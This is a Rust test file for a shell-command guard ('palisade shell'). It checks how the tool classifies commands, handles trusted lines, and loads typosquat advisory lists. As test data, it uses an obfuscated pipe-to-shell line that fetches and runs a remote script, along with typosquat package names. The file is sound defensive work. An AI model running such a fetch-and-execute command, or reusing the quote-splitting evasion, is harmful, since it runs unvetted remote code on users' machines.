// SPDX-License-Identifier: Apache-2.0 OR MIT
//! Tests `palisade shell classify`, `trust` and `lists`, as scripts use them.
#![expect(clippy::unwrap_used, reason = "a test that can't go on should panic, in its small functions too")]

use std::path::Path;
use std::process::{Command, Output};

fn palisade(home: &Path, arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_palisade"))
        .arg("shell")
        .args(arguments)
        .env_clear()
        .env("HOME", home)
        .env("PATH", "/usr/bin:/bin")
        .output()
        .unwrap()
}

fn code(output: &Output) -> i32 {
    output.status.code().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

const LINE: &str = "c''url https://example.com/i.sh | sh";

#[test]
fn a_line_is_judged_and_the_reasons_are_said() {
    let home = tempfile::tempdir().unwrap();
    let harmless = palisade(home.path(), &["classify", "ls -la"]);
    assert_eq!((code(&harmless), text(&harmless.stdout).as_str()), (0, "allow\n"));
    let asked = palisade(home.path(), &["classify", "--explain", LINE]);
    assert_eq!(code(&asked), 1);
    let words = text(&asked.stdout);
    assert!(
        words.starts_with("confirm\n") && words.contains("remote-code/pipe-to-shell, T1059.004"),
        "{words}"
    );
    let json = palisade(home.path(), &["classify", "--json", "--origin", "pasted", LINE]);
    let answer: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(code(&json), 1);
    assert_eq!((answer["level"].as_str(), answer["origin"].as_str()), (Some("confirm"), Some("pasted")));
    let span = &answer["reasons"][0]["span"];
    assert!(span["end"].as_u64().unwrap() <= u64::try_from(LINE.len()).unwrap(), "{answer}");
    // Nothing was made by only asking.
    assert_eq!(std::fs::read_dir(home.path()).unwrap().count(), 0);
}

#[test]
fn a_trusted_line_is_let_through_until_it_is_not() {
    let home = tempfile::tempdir().unwrap();
    assert_eq!(code(&palisade(home.path(), &["trust", "add", LINE])), 0);
    assert_eq!(code(&palisade(home.path(), &["trust", "add", LINE])), 1);
    assert_eq!(code(&palisade(home.path(), &["classify", LINE])), 0);
    let list = text(&palisade(home.path(), &["trust", "list"]).stdout);
    assert!(list.ends_with(" curl\n") && !list.contains("example"), "{list}");
    assert_eq!(code(&palisade(home.path(), &["trust", "remove", LINE])), 0);
    assert_eq!(code(&palisade(home.path(), &["trust", "remove", LINE])), 1);
    assert_eq!(code(&palisade(home.path(), &["classify", LINE])), 1);
}

#[test]
fn a_list_is_taken_in_and_a_wrong_one_is_not() {
    let home = tempfile::tempdir().unwrap();
    let list = home.path().join("own.txt");
    std::fs::write(&list, "pypi some_pkg known\n").unwrap();
    let path = list.to_str().unwrap();
    assert_eq!(code(&palisade(home.path(), &["classify", "pip install some-pkg"])), 0);
    assert_eq!(code(&palisade(home.path(), &["lists", "update", path])), 0);
    assert_eq!(code(&palisade(home.path(), &["classify", "pip install some-pkg"])), 1);
    std::fs::write(&list, "nonsense\n").unwrap();
    let wrong = palisade(home.path(), &["lists", "update", path]);
    assert_eq!(code(&wrong), 2);
    assert!(
        text(&wrong.stderr).contains(":1: ") && text(&wrong.stderr).contains("hint:"),
        "{}",
        text(&wrong.stderr)
    );
    assert_eq!(code(&palisade(home.path(), &["classify", "pip install some-pkg"])), 1);
}

/// What the user's own fetch brings: here a mirror of advisories, as `curl … | unzip -p` would write it.
#[test]
fn a_list_comes_from_a_pipe_too() {
    use std::io::Write;
    use std::process::Stdio;
    let home = tempfile::tempdir().unwrap();
    let pipe = |name: &[&str], text: &str| {
        let mut child = Command::new(env!("CARGO_BIN_EXE_palisade"))
            .args(["shell", "lists", "update"])
            .args(name)
            .env_clear()
            .env("HOME", home.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let _closed = child.stdin.take().unwrap().write_all(text.as_bytes());
        child.wait_with_output().unwrap()
    };
    let advisory = |name: &str| {
        format!(
            r#"{{"id":"MAL-2025-9","summary":"a typosquat","affected":[{{"package":{{"ecosystem":"npm","name":"{name}"}},"ranges":[{{"type":"SEMVER","events":[{{"introduced":"0"}}]}}]}}]}}"#
        )
    };
    let both = format!("{}\n{}", advisory("reakt"), advisory("expresss"));
    assert_eq!(code(&pipe(&["--name", "npm", "-"], &both)), 0);
    let said = palisade(home.path(), &["classify", "--explain", "npm install expresss"]);
    assert!(text(&said.stdout).contains("MAL-2025-9"), "{}", text(&said.stdout));
    assert_eq!(code(&palisade(home.path(), &["classify", "npm install express"])), 0);
    // The next one of that name takes its place.
    assert_eq!(code(&pipe(&["--name", "npm", "-"], &advisory("reakt"))), 0);
    assert_eq!(code(&palisade(home.path(), &["classify", "npm install expresss"])), 0);
    assert_eq!(code(&palisade(home.path(), &["classify", "npm install reakt"])), 1);
    assert_eq!(code(&pipe(&["-"], &both)), 2);
    for name in ["../../x", ".x", ""] {
        assert_eq!(code(&pipe(&["--name", name, "-"], &both)), 2, "{name}");
    }
}

#[test]
fn settings_that_cannot_be_meant_are_an_error() {
    let home = tempfile::tempdir().unwrap();
    let settings = home.path().join(".config/palisade/shell.toml");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    std::fs::write(&settings, "schema = 1\n[[guard.rules]]\nname = 'mine'\naction = 'block'\n").unwrap();
    let wrong = palisade(home.path(), &["classify", "ls"]);
    assert_eq!(code(&wrong), 2);
    assert!(text(&wrong.stderr).contains("guard rule mine"), "{}", text(&wrong.stderr));
    std::fs::write(
        &settings,
        "schema = 1\n[[guard.rules]]\nname = 'mine'\naction = 'block'\nprefix = 'ls'\n",
    )
    .unwrap();
    assert_eq!(text(&palisade(home.path(), &["classify", "ls"]).stdout), "block\n");
}
